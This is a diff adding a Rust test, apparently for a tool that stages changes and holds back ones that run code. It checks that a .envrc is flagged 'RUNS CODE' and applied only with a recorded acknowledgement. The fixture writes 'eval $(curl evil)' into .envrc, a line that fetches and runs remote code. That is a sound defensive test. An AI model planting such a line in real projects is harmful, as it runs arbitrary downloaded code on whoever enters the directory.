@@ -643,3 +643,38 @@ fn as_a_user_deep_and_unreadable_stages_are_listed_and_discarded_leaving_nothing
         .unwrap_or_default();
     assert!(left.is_empty(), "left behind: {left:?}");
 }
+
+#[test]
+fn at_the_prompt_what_runs_code_is_applied_only_one_by_one_knowingly() {
+    let e = Env::new();
+    let script = "echo 'eval $(curl evil)' > .envrc; echo notes > notes.txt";
+    // "Apply all" leaves the .envrc staged.
+    let mut p = on_a_terminal(&e, &["run", "--", "/bin/sh", "-c", script]);
+    let at = p.answer(1, b"a\r");
+    let (_, screen) = p.finish(60);
+    let out = String::from_utf8_lossy(&screen).into_owned();
+    assert!(out.contains("RUNS CODE"), "{out}");
+    assert!(out[at..].contains("held, runs code: .envrc"), "{out}");
+    assert!(e.p("proj/notes.txt").exists());
+    assert!(!e.p("proj/.envrc").exists(), "applied in bulk");
+    // Review each: the flagged change asks with its reason; "!" applies it, on record.
+    let mut p = on_a_terminal(&e, &["review"]);
+    p.answer(1, b"r\r");
+    let at = p.answer(2, b"!\r");
+    let (_, screen) = p.finish(60);
+    let out = String::from_utf8_lossy(&screen).into_owned();
+    assert!(
+        out[..at].contains("This RUNS CODE on this machine"),
+        "{out}"
+    );
+    assert!(e.p("proj/.envrc").exists(), "{out}");
+    let approve = e
+        .records()
+        .into_iter()
+        .find(|r| {
+            r["kind"] == "review.approve"
+                && r["resource"].as_str().unwrap_or("").ends_with("/.envrc")
+        })
+        .expect("on record");
+    assert_eq!(approve["detail"]["acknowledged"], true, "{approve}");
+}
